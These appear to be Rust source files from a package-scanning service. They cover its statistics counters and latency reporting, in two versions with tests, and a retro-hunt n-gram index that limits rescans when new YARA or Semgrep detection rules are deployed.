    /// Digests confirm-scanned by retro-hunts. The gap to a full rescan
    /// (`retro_hunts × digests resident`) is the work the index saved.
    pub retro_confirm_scans: u64,
    /// Distinct terms currently held by the retro index (folded content
    /// 3-grams realizing the atom posting lists); 0 when disabled.
    pub retro_index_atoms: u64,
    /// Content digests currently resident in the retro index.
    pub retro_index_digests: u64,
    /// Estimated heap bytes of all artifacts resident in the artifact
    /// cache (sum of per-artifact `stored_bytes`). A gauge overlaid at
    /// snapshot time like the retro-index gauges; 0 when the artifact
    /// cache is disabled.
    pub artifact_bytes_resident: u64,
    /// Matching-tier counters from the `textmatch` engine (Teddy
    /// prefilter, lazy DFA, Pike VM / Aho-Corasick fallbacks).
    /// Process-global and monotonic, unlike the per-hub counters above.
    pub engine: textmatch::EngineCounters,
    /// Per-stage latency percentiles (zeroed when telemetry is off).
    pub latency: StageLatencies,
}

/// Percentile summary of one latency histogram, in nanoseconds.
///
/// All-`u64` so [`HubStats`] stays `Copy + Eq`. Percentiles come from
/// the hub's log-linear histograms and are within 1/16 relative error
/// of the exact sample (see the `telemetry` crate docs).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct LatencyStat {
    /// Samples recorded.
    pub count: u64,
    /// Sum of all samples (exact, not bucketed).
    pub sum_ns: u64,
    /// Median.
    pub p50_ns: u64,
    /// 90th percentile.
    pub p90_ns: u64,
    /// 99th percentile.
    pub p99_ns: u64,
    /// Largest sample (exact).
    pub max_ns: u64,
}

impl LatencyStat {
    /// Extracts the summary from a histogram snapshot.
    pub fn from_snapshot(snap: &HistogramSnapshot) -> Self {
        LatencyStat {
            count: snap.count,
            sum_ns: snap.sum,
            p50_ns: snap.percentile(0.50),
            p90_ns: snap.percentile(0.90),
            p99_ns: snap.percentile(0.99),
            max_ns: snap.max,
        }
    }

    /// Arithmetic mean sample, in nanoseconds.
    pub fn mean_ns(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum_ns as f64 / self.count as f64
        }
    }
}

/// Latency percentiles for every pipeline stage plus end-to-end wall
/// time (`scan` = submit-to-verdict, cache hits excluded from the
/// worker stages but included in `scan` when answered synchronously).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct StageLatencies {
    /// Time jobs sat in the bounded submission queue.
    pub queue: LatencyStat,
    /// Verdict-cache lookup on the submit path.
    pub cache: LatencyStat,
    /// Artifact get-or-build (parse, intern, layer decode, byte scan).
    pub artifact: LatencyStat,
    /// Incremental diff-and-splice builds (nested **inside** `artifact`
    /// samples: a splice is one way an artifact build resolves, so this
    /// stage is excluded from disjoint-stage sums).
    pub splice: LatencyStat,
    /// Literal prefilter routing.
    pub prefilter: LatencyStat,
    /// YARA surface condition evaluation.
    pub yara: LatencyStat,
    /// Decoded-layer YARA evaluation.
    pub layers: LatencyStat,
    /// Semgrep matchset walk.
    pub semgrep: LatencyStat,
    /// Taint-flow aggregation over cached per-file summaries.
    pub dataflow: LatencyStat,
    /// Verdict assembly.
    pub verdict: LatencyStat,
    /// Retro-hunt index query (one sample per hunt).
    pub retro_query: LatencyStat,
    /// Retro-hunt confirm scans (one sample per digest scanned).
    pub retro_confirm: LatencyStat,
    /// End-to-end submit-to-verdict wall time.
    pub scan: LatencyStat,
}

impl StageLatencies {
    /// Stage names paired with their stats, pipeline order, `scan` last.
    pub fn named(&self) -> [(&'static str, LatencyStat); 13] {
        [
            ("queue", self.queue),
            ("cache", self.cache),
            ("artifact", self.artifact),
            ("splice", self.splice),
            ("prefilter", self.prefilter),
            ("yara", self.yara),
            ("layers", self.layers),
            ("semgrep", self.semgrep),
            ("dataflow", self.dataflow),
            ("verdict", self.verdict),
            ("retro_query", self.retro_query),
            ("retro_confirm", self.retro_confirm),
            ("scan", self.scan),
        ]
    }
}

/// Renders nanoseconds at a human scale: `870ns`, `12.4µs`, `3.05ms`,
/// `1.21s`.
pub(crate) fn fmt_ns(ns: u64) -> String {
    match ns {
        0..=999 => format!("{ns}ns"),
        1_000..=999_999 => format!("{:.1}µs", ns as f64 / 1e3),
        1_000_000..=999_999_999 => format!("{:.2}ms", ns as f64 / 1e6),
        _ => format!("{:.2}s", ns as f64 / 1e9),
    }
}

impl fmt::Display for HubStats {
    /// An aligned operator table: counters, derived rates, then the
    /// per-stage latency percentiles (omitted entirely when telemetry
    /// was disabled and no samples exist).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let row = |f: &mut fmt::Formatter<'_>, name: &str, value: u64| {
            writeln!(f, "  {name:<26} {value:>12}")
        };
        let pct = |f: &mut fmt::Formatter<'_>, name: &str, value: f64| {
            writeln!(f, "  {name:<26} {:>11.1}%", value * 100.0)
        };
        writeln!(f, "scanhub stats")?;
        row(f, "submitted", self.submitted)?;
        row(f, "completed", self.completed)?;
        row(f, "cache_hits", self.cache_hits)?;
        row(f, "bytes_scanned", self.bytes_scanned)?;
        row(f, "artifact_parses", self.artifact_parses)?;
        row(f, "artifact_cache_hits", self.artifact_cache_hits)?;
        if self.incremental_relexes + self.splice_fallbacks > 0 {
            row(f, "incremental_relexes", self.incremental_relexes)?;
            row(f, "splice_fallbacks", self.splice_fallbacks)?;
            row(f, "relexed_bytes", self.relexed_bytes)?;
        }
        if self.artifact_bytes_resident > 0 {
            row(f, "artifact_bytes_resident", self.artifact_bytes_resident)?;
        }
        row(f, "layers_decoded", self.layers_decoded)?;
        row(f, "layer_bytes_scanned", self.layer_bytes_scanned)?;
        row(f, "taint_analyses", self.taint_analyses)?;
        row(f, "flows_found", self.flows_found)?;
        row(f, "consts_folded", self.consts_folded)?;
        row(f, "yara_rules_evaluated", self.yara_rules_evaluated)?;
        row(f, "yara_rules_skipped", self.yara_rules_skipped)?;
        row(f, "semgrep_rules_evaluated", self.semgrep_rules_evaluated)?;
        row(f, "semgrep_rules_skipped", self.semgrep_rules_skipped)?;
        row(f, "semgrep_pattern_reparses", self.semgrep_pattern_reparses)?;
        if self.retro_hunts > 0 {
            row(f, "retro_hunts", self.retro_hunts)?;
            row(f, "retro_candidates", self.retro_candidates)?;
            row(f, "retro_confirm_scans", self.retro_confirm_scans)?;
            row(f, "retro_index_atoms", self.retro_index_atoms)?;
            row(f, "retro_index_digests", self.retro_index_digests)?;
        }
        let eng = &self.engine;
        if eng.teddy_scans + eng.ac_fallback_scans + eng.dfa_scans > 0 {
            row(f, "teddy_scans", eng.teddy_scans)?;
            row(f, "teddy_bytes_scanned", eng.teddy_bytes_scanned)?;
            row(f, "ac_fallback_scans", eng.ac_fallback_scans)?;
            row(f, "dfa_scans", eng.dfa_scans)?;
            row(f, "dfa_states_built", eng.dfa_states_built)?;
            row(f, "dfa_cache_flushes", eng.dfa_cache_flushes)?;
            row(f, "pikevm_fallbacks", eng.pikevm_fallbacks)?;
        }
        pct(f, "cache_hit_rate", self.cache_hit_rate())?;
        pct(f, "artifact_hit_rate", self.artifact_hit_rate())?;
        pct(f, "prefilter_skip_rate", self.prefilter_skip_rate())?;
        if eng.teddy_scans + eng.ac_fallback_scans > 0 {
            pct(f, "teddy_tier_rate", eng.teddy_tier_rate())?;
            pct(f, "teddy_skip_rate", eng.teddy_skip_rate())?;
        }
        if eng.dfa_scans > 0 {
            pct(f, "dfa_completion_rate", eng.dfa_completion_rate())?;
        }
        let stages = self.latency.named();
        if stages.iter().any(|(_, s)| s.count > 0) {
            writeln!(
                f,
                "  {:<13} {:>7} {:>10} {:>10} {:>10} {:>10}",
                "latency", "count", "p50", "p90", "p99", "max"
            )?;
            for (name, stat) in stages {
                if stat.count == 0 {
                    continue;
                }
                writeln!(
                    f,
                    "  {name:<13} {:>7} {:>10} {:>10} {:>10} {:>10}",
                    stat.count,
                    fmt_ns(stat.p50_ns),
                    fmt_ns(stat.p90_ns),
                    fmt_ns(stat.p99_ns),
                    fmt_ns(stat.max_ns),
                )?;
            }
        }
        Ok(())
    }
}

impl HubStats {
    /// Fraction of submissions served from the cache.
    pub fn cache_hit_rate(&self) -> f64 {
        ratio(self.cache_hits, self.submitted)
    }

    /// Fraction of rule evaluations (both engines) the prefilter skipped.
    pub fn prefilter_skip_rate(&self) -> f64 {
        let skipped = self.yara_rules_skipped + self.semgrep_rules_skipped;
        let total = skipped + self.yara_rules_evaluated + self.semgrep_rules_evaluated;
        ratio(skipped, total)
    }

    /// How many times over the regex engine re-read each scanned byte
    /// (1.0 = every submitted byte went through exactly one regex pass).
    pub fn regex_read_amplification(&self) -> f64 {
        ratio(self.regex_bytes_scanned, self.bytes_scanned)
    }

    /// Fraction of file entries served from the artifact cache instead
    /// of being re-analyzed.
    pub fn artifact_hit_rate(&self) -> f64 {
        ratio(
            self.artifact_cache_hits,
            self.artifact_cache_hits + self.artifact_parses,
        )
    }
}

fn ratio(part: u64, whole: u64) -> f64 {
    if whole == 0 {
        0.0
    } else {
        part as f64 / whole as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rates_guard_division_by_zero() {
        let stats = HubStats::default();
        assert_eq!(stats.cache_hit_rate(), 0.0);
        assert_eq!(stats.prefilter_skip_rate(), 0.0);
    }

    #[test]
    fn rates_compute() {
        let stats = HubStats {
            submitted: 10,
            cache_hits: 4,
            yara_rules_evaluated: 30,
            yara_rules_skipped: 50,
            semgrep_rules_evaluated: 10,
            semgrep_rules_skipped: 10,
            ..HubStats::default()
        };
        assert!((stats.cache_hit_rate() - 0.4).abs() < 1e-9);
        assert!((stats.prefilter_skip_rate() - 0.6).abs() < 1e-9);
    }

    #[test]
    fn artifact_hit_rate_computes() {
        let stats = HubStats {
            artifact_parses: 25,
            artifact_cache_hits: 75,
            ..HubStats::default()
        };
        assert!((stats.artifact_hit_rate() - 0.75).abs() < 1e-9);
        assert_eq!(HubStats::default().artifact_hit_rate(), 0.0);
    }

    #[test]
    fn fmt_ns_picks_a_human_scale() {
        assert_eq!(fmt_ns(870), "870ns");
        assert_eq!(fmt_ns(12_400), "12.4µs");
        assert_eq!(fmt_ns(3_050_000), "3.05ms");
        assert_eq!(fmt_ns(1_210_000_000), "1.21s");
    }

    #[test]
    fn display_renders_counters_rates_and_percentiles() {
        let mut stats = HubStats {
            submitted: 10,
            completed: 10,
            cache_hits: 4,
            ..HubStats::default()
        };
        let text = stats.to_string();
        assert!(text.contains("submitted"));
        assert!(text.contains("cache_hit_rate"));
        assert!(text.contains("40.0%"));
        // No samples -> the latency table is omitted entirely.
        assert!(!text.contains("p99"));

        stats.latency.scan = LatencyStat {
            count: 6,
            sum_ns: 12_000_000,
            p50_ns: 1_800_000,
            p90_ns: 3_100_000,
            p99_ns: 3_100_000,
            max_ns: 3_200_000,
        };
        let text = stats.to_string();
        assert!(text.contains("p99"));
        assert!(text.contains("scan"));
        assert!(text.contains("1.80ms"));
        // Stages with no samples stay out of the table.
        assert!(!text.contains("\n  queue"));
    }

    #[test]
    fn display_gates_matching_tier_rows_on_activity() {
        let mut stats = HubStats::default();
        let text = stats.to_string();
        assert!(!text.contains("teddy_scans"));
        assert!(!text.contains("dfa_completion_rate"));

        stats.engine = textmatch::EngineCounters {
            teddy_scans: 8,
            teddy_bytes_scanned: 4096,
            teddy_chunks_classified: 512,
            teddy_chunks_verified: 64,
            ac_fallback_scans: 2,
            dfa_scans: 4,
            dfa_states_built: 12,
            dfa_cache_flushes: 1,
            pikevm_fallbacks: 1,
        };
        let text = stats.to_string();
        assert!(text.contains("teddy_scans"));
        assert!(text.contains("teddy_bytes_scanned"));
        assert!(text.contains("pikevm_fallbacks"));
        // 8 of 10 multi-literal scans took the Teddy tier.
        assert!(text.contains("teddy_tier_rate"));
        assert!(text.contains("80.0%"));
        // 448 of 512 chunks skipped verification.
        assert!(text.contains("teddy_skip_rate"));
        assert!(text.contains("87.5%"));
        // 3 of 4 DFA scans completed without Pike VM fallback.
        assert!(text.contains("dfa_completion_rate"));
        assert!(text.contains("75.0%"));
    }

    #[test]
    fn latency_stat_from_snapshot() {
        let hist = telemetry::Histogram::new();
        for v in [100u64, 200, 300, 400, 1_000_000] {
            hist.record(v);
        }
        let stat = LatencyStat::from_snapshot(&hist.snapshot());
        assert_eq!(stat.count, 5);
        assert_eq!(stat.sum_ns, 1_000_000 + 1000);
        assert_eq!(stat.max_ns, 1_000_000);
        assert!(stat.p50_ns >= 200 && stat.p50_ns < 400);
        assert!((stat.mean_ns() - 200_200.0).abs() < 1e-6);
    }

    #[test]
    fn regex_read_amplification_computes() {
        let stats = HubStats {
            bytes_scanned: 100,
            regex_strings_evaluated: 3,
            regex_bytes_scanned: 300,
            ..HubStats::default()
        };
        assert!((stats.regex_read_amplification() - 3.0).abs() < 1e-9);
        assert_eq!(HubStats::default().regex_read_amplification(), 0.0);
    }
}

//! Service counters: throughput, cache effectiveness, prefilter skips.

use std::sync::atomic::{AtomicU64, Ordering};

/// Lock-free counters updated by the submission path and the workers.
#[derive(Debug, Default)]
pub(crate) struct HubCounters {
    pub submitted: AtomicU64,
    pub completed: AtomicU64,
    pub cache_hits: AtomicU64,
    pub bytes_scanned: AtomicU64,
    pub yara_scans_skipped: AtomicU64,
    pub semgrep_parses_skipped: AtomicU64,
    pub yara_rules_evaluated: AtomicU64,
    pub yara_rules_skipped: AtomicU64,
    pub semgrep_rules_evaluated: AtomicU64,
    pub semgrep_rules_skipped: AtomicU64,
    pub regex_strings_evaluated: AtomicU64,
    pub regex_bytes_scanned: AtomicU64,
    pub semgrep_stmts_visited: AtomicU64,
    pub semgrep_pattern_reparses: AtomicU64,
    pub artifact_parses: AtomicU64,
    pub artifact_cache_hits: AtomicU64,
    pub layers_decoded: AtomicU64,
    pub layer_bytes_scanned: AtomicU64,
}

impl HubCounters {
    pub fn add(counter: &AtomicU64, n: u64) {
        counter.fetch_add(n, Ordering::Relaxed);
    }

    pub fn snapshot(&self) -> HubStats {
        let load = |c: &AtomicU64| c.load(Ordering::Relaxed);
        HubStats {
            submitted: load(&self.submitted),
            completed: load(&self.completed),
            cache_hits: load(&self.cache_hits),
            bytes_scanned: load(&self.bytes_scanned),
            yara_scans_skipped: load(&self.yara_scans_skipped),
            semgrep_parses_skipped: load(&self.semgrep_parses_skipped),
            yara_rules_evaluated: load(&self.yara_rules_evaluated),
            yara_rules_skipped: load(&self.yara_rules_skipped),
            semgrep_rules_evaluated: load(&self.semgrep_rules_evaluated),
            semgrep_rules_skipped: load(&self.semgrep_rules_skipped),
            regex_strings_evaluated: load(&self.regex_strings_evaluated),
            regex_bytes_scanned: load(&self.regex_bytes_scanned),
            semgrep_stmts_visited: load(&self.semgrep_stmts_visited),
            semgrep_pattern_reparses: load(&self.semgrep_pattern_reparses),
            artifact_parses: load(&self.artifact_parses),
            artifact_cache_hits: load(&self.artifact_cache_hits),
            layers_decoded: load(&self.layers_decoded),
            layer_bytes_scanned: load(&self.layer_bytes_scanned),
        }
    }
}

/// A point-in-time snapshot of the hub's counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct HubStats {
    /// Packages submitted (including cache hits).
    pub submitted: u64,
    /// Packages fully processed (scanned or served from cache).
    pub completed: u64,
    /// Submissions answered from the verdict cache.
    pub cache_hits: u64,
    /// Total buffer bytes run through scanners (cache hits excluded).
    pub bytes_scanned: u64,
    /// Packages whose YARA pass was skipped entirely (no rule routed).
    pub yara_scans_skipped: u64,
    /// Packages whose Python sources were never parsed for Semgrep
    /// (no rule routed).
    pub semgrep_parses_skipped: u64,
    /// YARA rule condition evaluations performed.
    pub yara_rules_evaluated: u64,
    /// YARA rule evaluations avoided by the literal prefilter.
    pub yara_rules_skipped: u64,
    /// Semgrep rule evaluations performed.
    pub semgrep_rules_evaluated: u64,
    /// Semgrep rule evaluations avoided by the literal prefilter.
    pub semgrep_rules_skipped: u64,
    /// YARA regex string definitions the scanner actually evaluated.
    pub regex_strings_evaluated: u64,
    /// Haystack bytes read by the regex engine (each evaluation is one
    /// single-pass scan, so this is buffer length times evaluations).
    pub regex_bytes_scanned: u64,
    /// Python statements visited by the Semgrep matcher's single-pass
    /// module walks (one walk serves every routed rule).
    pub semgrep_stmts_visited: u64,
    /// Pattern-text re-parses on the Semgrep scan path. Patterns are
    /// parsed once at rule-compile time, so this must stay **0** in
    /// steady state — a non-zero value means the seed's
    /// reparse-per-call cost model has returned.
    pub semgrep_pattern_reparses: u64,
    /// File entries analyzed from scratch (lex + parse + string intern +
    /// layer decode + ruleset byte scan). Across a hub run over N
    /// package versions this must equal the number of **unique file
    /// digests** — the parse-once contract of the artifact cache.
    pub artifact_parses: u64,
    /// File entries served by the content-addressed artifact cache
    /// (no lexing, parsing or byte scanning performed).
    pub artifact_cache_hits: u64,
    /// Decoded payload layers extracted while building artifacts.
    pub layers_decoded: u64,
    /// Bytes of decoded-layer content run through the YARA string scan
    /// at artifact-build time.
    pub layer_bytes_scanned: u64,
}

impl HubStats {
    /// Fraction of submissions served from the cache.
    pub fn cache_hit_rate(&self) -> f64 {
        ratio(self.cache_hits, self.submitted)
    }

    /// Fraction of rule evaluations (both engines) the prefilter skipped.
    pub fn prefilter_skip_rate(&self) -> f64 {
        let skipped = self.yara_rules_skipped + self.semgrep_rules_skipped;
        let total = skipped + self.yara_rules_evaluated + self.semgrep_rules_evaluated;
        ratio(skipped, total)
    }

    /// How many times over the regex engine re-read each scanned byte
    /// (1.0 = every submitted byte went through exactly one regex pass).
    pub fn regex_read_amplification(&self) -> f64 {
        ratio(self.regex_bytes_scanned, self.bytes_scanned)
    }

    /// Fraction of file entries served from the artifact cache instead
    /// of being re-analyzed.
    pub fn artifact_hit_rate(&self) -> f64 {
        ratio(
            self.artifact_cache_hits,
            self.artifact_cache_hits + self.artifact_parses,
        )
    }
}

fn ratio(part: u64, whole: u64) -> f64 {
    if whole == 0 {
        0.0
    } else {
        part as f64 / whole as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rates_guard_division_by_zero() {
        let stats = HubStats::default();
        assert_eq!(stats.cache_hit_rate(), 0.0);
        assert_eq!(stats.prefilter_skip_rate(), 0.0);
    }

    #[test]
    fn rates_compute() {
        let stats = HubStats {
            submitted: 10,
            cache_hits: 4,
            yara_rules_evaluated: 30,
            yara_rules_skipped: 50,
            semgrep_rules_evaluated: 10,
            semgrep_rules_skipped: 10,
            ..HubStats::default()
        };
        assert!((stats.cache_hit_rate() - 0.4).abs() < 1e-9);
        assert!((stats.prefilter_skip_rate() - 0.6).abs() < 1e-9);
    }

    #[test]
    fn artifact_hit_rate_computes() {
        let stats = HubStats {
            artifact_parses: 25,
            artifact_cache_hits: 75,
            ..HubStats::default()
        };
        assert!((stats.artifact_hit_rate() - 0.75).abs() < 1e-9);
        assert_eq!(HubStats::default().artifact_hit_rate(), 0.0);
    }

    #[test]
    fn regex_read_amplification_computes() {
        let stats = HubStats {
            bytes_scanned: 100,
            regex_strings_evaluated: 3,
            regex_bytes_scanned: 300,
            ..HubStats::default()
        };
        assert!((stats.regex_read_amplification() - 3.0).abs() < 1e-9);
        assert_eq!(HubStats::default().regex_read_amplification(), 0.0);
    }
}

//! Retro-hunt: an inverted atom→digest index so new rules never rescan
//! the world.
//!
//! The paper's premise is a *growing* LLM-generated ruleset, and the
//! operation a registry gatekeeper performs most often is deploying a
//! handful of new rules against a package history it has already
//! scanned. The content-addressed artifact layer makes re-*parsing*
//! free, but a naive deploy still confirm-scans every cached digest.
//! This module adds the VirusTotal-retrohunt shape: a posting index
//! from prefilter-atom evidence to the content digests whose artifacts
//! carry it, maintained incrementally on artifact publish/evict, so a
//! rule deploy touches only candidate digests.
//!
//! # Index shape
//!
//! Postings are keyed by folded (ASCII-lowercase) 3-grams of artifact
//! content rather than by whole interned atoms, and split by
//! provenance: grams of the raw file bytes land in the *surface* list,
//! grams of decoded payload layers in the *layer* list. An atom query
//! intersects the posting lists of the atom's own 3-grams — any
//! occurrence of the atom inside one scan unit contains every one of
//! its 3-grams, so the intersection is a sound over-approximation of
//! "digests whose content can contain this atom", and it answers for
//! atoms the index has *never seen before* (the whole point of a rule
//! deploy). Atoms shorter than the gram width go through exact 1/2-gram
//! posting maps maintained alongside the 3-gram index, so a rule gated
//! on `"MZ"` nominates only digests whose content actually contains the
//! two bytes instead of forcing an exhaustive confirm-scan; only rules
//! without an exhaustive atom set fall back to full candidacy.
//!
//! # Verdict semantics
//!
//! [`crate::ScanHub::retro_hunt`] confirm-scans each candidate digest
//! with exactly the changed rules, using the same per-unit evaluation
//! the hub scan path uses (surface bytes at offset zero, each decoded
//! layer as its own unit, Semgrep over the cached parsed module). The
//! differential suite pins `retro_hunt` ≡ `retro_rescan` (the
//! exhaustive oracle that confirm-scans every resident digest), and
//! pins the confirm-scan itself against a full hub scan restricted to
//! the changed rules.

use std::collections::{BTreeSet, HashMap, HashSet};
use std::sync::Arc;

use semgrep_engine::{CompiledSemgrepRules, Finding, MatchScratch, MatchSet};
use yara_engine::{CompiledRules, ScanScratch, Scanner};

use crate::artifact::FileAnalysis;
use crate::cache::DigestKey;
use crate::prefilter::{RuleDelta, RuleEngine};
use crate::verdict::LayerFinding;

/// Width of the indexed content grams. Three bytes keeps the posting
/// map small enough to live beside the artifact cache while still
/// discriminating sharply for real IOC-length atoms.
pub(crate) const GRAM_LEN: usize = 3;

/// Where indexed evidence for a digest was observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TermProvenance {
    /// The raw file bytes.
    Surface,
    /// A decoded payload layer (base64/hex recursion).
    Layer,
}

#[derive(Debug, Default)]
struct Postings {
    /// Slots whose raw bytes contain the gram, sorted ascending.
    surface: Vec<u32>,
    /// Slots with the gram in some decoded layer, sorted ascending.
    layer: Vec<u32>,
}

/// The inverted content index: folded 3-gram → digest slots, tagged by
/// provenance. Maintained under the artifact store's retro lock; all
/// mutation happens on the single-flight publish path and on eviction.
#[derive(Debug, Default)]
pub(crate) struct RetroIndex {
    /// Slot → (digest, analyzed-as-python) for live digests; `None`
    /// marks a tombstone awaiting compaction.
    slots: Vec<Option<(DigestKey, bool)>>,
    by_digest: HashMap<DigestKey, u32>,
    postings: HashMap<[u8; GRAM_LEN], Postings>,
    /// Exact single-byte postings, so 1-byte atoms stay gateable.
    grams1: HashMap<u8, Postings>,
    /// Exact byte-pair postings, so 2-byte atoms (`"MZ"`) stay gateable.
    grams2: HashMap<[u8; 2], Postings>,
    /// Slots freed by the last compaction, safe to reuse (their posting
    /// entries are gone).
    free: Vec<u32>,
    /// Tombstones not yet swept from the posting lists.
    dead: usize,
}

fn collect_grams(data: &[u8], out: &mut HashSet<[u8; GRAM_LEN]>) {
    for w in data.windows(GRAM_LEN) {
        out.insert([
            w[0].to_ascii_lowercase(),
            w[1].to_ascii_lowercase(),
            w[2].to_ascii_lowercase(),
        ]);
    }
}

fn collect_short_grams(data: &[u8], out1: &mut HashSet<u8>, out2: &mut HashSet<[u8; 2]>) {
    for &b in data {
        out1.insert(b.to_ascii_lowercase());
    }
    for w in data.windows(2) {
        out2.insert([w[0].to_ascii_lowercase(), w[1].to_ascii_lowercase()]);
    }
}

/// Appends `slot` keeping the list sorted. Fresh slots always go at the
/// end; a slot reused after compaction may land mid-list.
fn push_slot(list: &mut Vec<u32>, slot: u32) {
    match list.last() {
        Some(&last) if last > slot => {
            let at = list.partition_point(|&s| s < slot);
            list.insert(at, slot);
        }
        _ => list.push(slot),
    }
}

impl RetroIndex {
    pub(crate) fn new() -> Self {
        Self::default()
    }

    /// Number of live digests.
    pub(crate) fn digest_count(&self) -> usize {
        self.by_digest.len()
    }

    /// Number of distinct indexed terms (folded 1/2/3-grams with at
    /// least one posting list).
    pub(crate) fn term_count(&self) -> usize {
        self.postings.len() + self.grams1.len() + self.grams2.len()
    }

    /// Indexes one published artifact. Idempotent: a digest already
    /// indexed (the single-flight re-publish race) is left untouched.
    pub(crate) fn insert_artifact(&mut self, artifact: &FileAnalysis) {
        if self.by_digest.contains_key(&artifact.digest) {
            return;
        }
        let slot = match self.free.pop() {
            Some(s) => {
                self.slots[s as usize] = Some((artifact.digest, artifact.is_python));
                s
            }
            None => {
                self.slots.push(Some((artifact.digest, artifact.is_python)));
                (self.slots.len() - 1) as u32
            }
        };
        self.by_digest.insert(artifact.digest, slot);

        let mut grams: HashSet<[u8; GRAM_LEN]> = HashSet::new();
        let mut g1: HashSet<u8> = HashSet::new();
        let mut g2: HashSet<[u8; 2]> = HashSet::new();
        collect_grams(&artifact.bytes, &mut grams);
        collect_short_grams(&artifact.bytes, &mut g1, &mut g2);
        for g in grams.drain() {
            push_slot(&mut self.postings.entry(g).or_default().surface, slot);
        }
        for g in g1.drain() {
            push_slot(&mut self.grams1.entry(g).or_default().surface, slot);
        }
        for g in g2.drain() {
            push_slot(&mut self.grams2.entry(g).or_default().surface, slot);
        }
        for layer in &artifact.layers {
            collect_grams(&layer.data, &mut grams);
            collect_short_grams(&layer.data, &mut g1, &mut g2);
        }
        for g in grams.drain() {
            push_slot(&mut self.postings.entry(g).or_default().layer, slot);
        }
        for g in g1.drain() {
            push_slot(&mut self.grams1.entry(g).or_default().layer, slot);
        }
        for g in g2.drain() {
            push_slot(&mut self.grams2.entry(g).or_default().layer, slot);
        }
    }

    /// Drops a digest (cache eviction). The slot becomes a tombstone
    /// filtered at query time; posting lists are swept in bulk once
    /// tombstones outnumber live digests.
    pub(crate) fn remove(&mut self, digest: &DigestKey) {
        let Some(slot) = self.by_digest.remove(digest) else {
            return;
        };
        self.slots[slot as usize] = None;
        self.dead += 1;
        if self.dead > self.by_digest.len().max(32) {
            self.compact();
        }
    }

    fn compact(&mut self) {
        let slots = &self.slots;
        let sweep = |p: &mut Postings| {
            p.surface.retain(|&s| slots[s as usize].is_some());
            p.layer.retain(|&s| slots[s as usize].is_some());
            !p.surface.is_empty() || !p.layer.is_empty()
        };
        self.postings.retain(|_, p| sweep(p));
        self.grams1.retain(|_, p| sweep(p));
        self.grams2.retain(|_, p| sweep(p));
        self.free.clear();
        for (i, s) in self.slots.iter().enumerate() {
            if s.is_none() {
                self.free.push(i as u32);
            }
        }
        self.dead = 0;
    }

    /// Every live digest, with its python flag.
    pub(crate) fn all_digests(&self) -> Vec<(DigestKey, bool)> {
        self.slots.iter().flatten().copied().collect()
    }

    /// Candidate digests that can contain `atom` (folded text) with the
    /// given provenance. Atoms shorter than the gram width answer from
    /// the exact 1/2-gram posting maps; only an empty atom returns
    /// `None` (the caller must fall back to full candidacy).
    pub(crate) fn candidates_for_atom(
        &self,
        atom: &str,
        provenance: TermProvenance,
    ) -> Option<Vec<(DigestKey, bool)>> {
        let folded: Vec<u8> = atom.bytes().map(|b| b.to_ascii_lowercase()).collect();
        if folded.len() < GRAM_LEN {
            let postings = match folded.as_slice() {
                [] => return None,
                [b] => self.grams1.get(b),
                [a, b] => self.grams2.get(&[*a, *b]),
                _ => unreachable!(),
            };
            let Some(p) = postings else {
                return Some(Vec::new());
            };
            let list = match provenance {
                TermProvenance::Surface => &p.surface,
                TermProvenance::Layer => &p.layer,
            };
            return Some(
                list.iter()
                    .filter_map(|&s| self.slots[s as usize])
                    .collect(),
            );
        }
        let mut lists: Vec<&Vec<u32>> = Vec::with_capacity(folded.len() - GRAM_LEN + 1);
        for w in folded.windows(GRAM_LEN) {
            let g = [w[0], w[1], w[2]];
            let Some(p) = self.postings.get(&g) else {
                return Some(Vec::new());
            };
            let list = match provenance {
                TermProvenance::Surface => &p.surface,
                TermProvenance::Layer => &p.layer,
            };
            if list.is_empty() {
                return Some(Vec::new());
            }
            lists.push(list);
        }
        lists.sort_by_key(|l| l.len());
        let mut acc: Vec<u32> = lists[0].clone();
        for list in &lists[1..] {
            acc.retain(|s| list.binary_search(s).is_ok());
            if acc.is_empty() {
                break;
            }
        }
        Some(
            acc.into_iter()
                .filter_map(|s| self.slots[s as usize])
                .collect(),
        )
    }
}

/// One rule deploy packaged for retro-hunting: the index-level diff
/// plus subset rulesets holding only the changed rules, so a confirm
/// scan evaluates nothing that did not change.
#[derive(Debug)]
pub struct RuleDeployment {
    /// Exactly which rules are new or changed, and which atoms the new
    /// index had never interned.
    pub delta: RuleDelta,
    /// Subset compiled ruleset of the changed YARA rules, in
    /// `delta.changed` order.
    pub(crate) yara: Option<CompiledRules>,
    /// Subset compiled ruleset of the changed Semgrep rules, in
    /// `delta.changed` order.
    pub(crate) semgrep: Option<CompiledSemgrepRules>,
    /// `delta.changed[i]` → position in its engine's subset ruleset.
    pub(crate) subset_pos: Vec<usize>,
}

impl RuleDeployment {
    pub(crate) fn build(
        delta: RuleDelta,
        yara: Option<&CompiledRules>,
        semgrep: Option<&CompiledSemgrepRules>,
    ) -> Self {
        let mut yara_rules = Vec::new();
        let mut semgrep_rules = Vec::new();
        let mut subset_pos = Vec::with_capacity(delta.changed.len());
        for changed in &delta.changed {
            match changed.engine {
                RuleEngine::Yara => {
                    subset_pos.push(yara_rules.len());
                    let rules = yara.expect("changed YARA rule implies a YARA ruleset");
                    yara_rules.push(rules.rules[changed.index].clone());
                }
                RuleEngine::Semgrep => {
                    subset_pos.push(semgrep_rules.len());
                    let rules = semgrep.expect("changed Semgrep rule implies a Semgrep ruleset");
                    semgrep_rules.push(rules.rules[changed.index].clone());
                }
            }
        }
        RuleDeployment {
            delta,
            yara: (!yara_rules.is_empty()).then_some(CompiledRules { rules: yara_rules }),
            semgrep: (!semgrep_rules.is_empty()).then_some(CompiledSemgrepRules {
                rules: semgrep_rules,
            }),
            subset_pos,
        }
    }

    /// True when nothing changed — a retro-hunt would scan nothing.
    pub fn is_empty(&self) -> bool {
        self.delta.changed.is_empty()
    }

    /// Sizes of the per-engine subset rulesets.
    pub(crate) fn subset_lens(&self) -> (usize, usize) {
        (
            self.yara.as_ref().map_or(0, |r| r.rules.len()),
            self.semgrep.as_ref().map_or(0, |r| r.rules.len()),
        )
    }
}

